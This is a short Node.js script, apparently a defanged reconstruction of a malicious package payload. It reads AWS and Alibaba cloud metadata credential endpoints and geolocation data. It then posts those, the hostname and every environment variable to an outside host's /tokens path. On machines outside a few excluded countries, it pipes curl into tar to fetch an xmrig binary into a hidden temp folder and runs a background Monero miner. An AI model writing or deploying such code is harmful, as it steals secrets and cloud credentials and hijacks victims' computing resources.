const https = require('https');
const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { exec } = require('child_process');

function get(url) {
  return new Promise((resolve) => {
    (url.startsWith('https') ? https : http).get(url, (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => resolve(d));
    }).on('error', () => resolve(null));
  });
}

async function collect() {
  const geo = await get('http://ipinfo.io.invalid/json');
  const aws = await get('http://192.0.2.254/latest/meta-data/iam/info');
  const ali = await get('http://192.0.2.253/latest/meta-data/ram/security-credentials/');
  const body = JSON.stringify({ geo, aws, ali, host: os.hostname(), env: process.env });
  const req = http.request({ host: '203.0.113.72', port: 80, path: '/tokens', method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.write(body);
  req.end();
  const country = geo ? JSON.parse(geo).country : '';
  return ['CN', 'RU', 'BY', 'IR'].indexOf(country) === -1;
}

async function mine() {
  const dir = path.join(os.tmpdir(), '.cache-' + Math.random().toString(36).slice(2));
  fs.mkdirSync(dir, { recursive: true });
  const url = 'https://github.invalid/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz';
  exec(`curl -sL ${url} | tar -xz -C ${dir} && nohup ${dir}/xmrig-6.22.2/xmrig --url pool.supportxmr.com.invalid:3333 --user 4RECONSTRUCTIONxONLYxNOTxAxREALxWALLETxADDRESSx00000000000000000000000000000000000 --threads=75% --background > /dev/null 2>&1 &`);
}

collect().then((ok) => ok && mine()).catch(() => {});
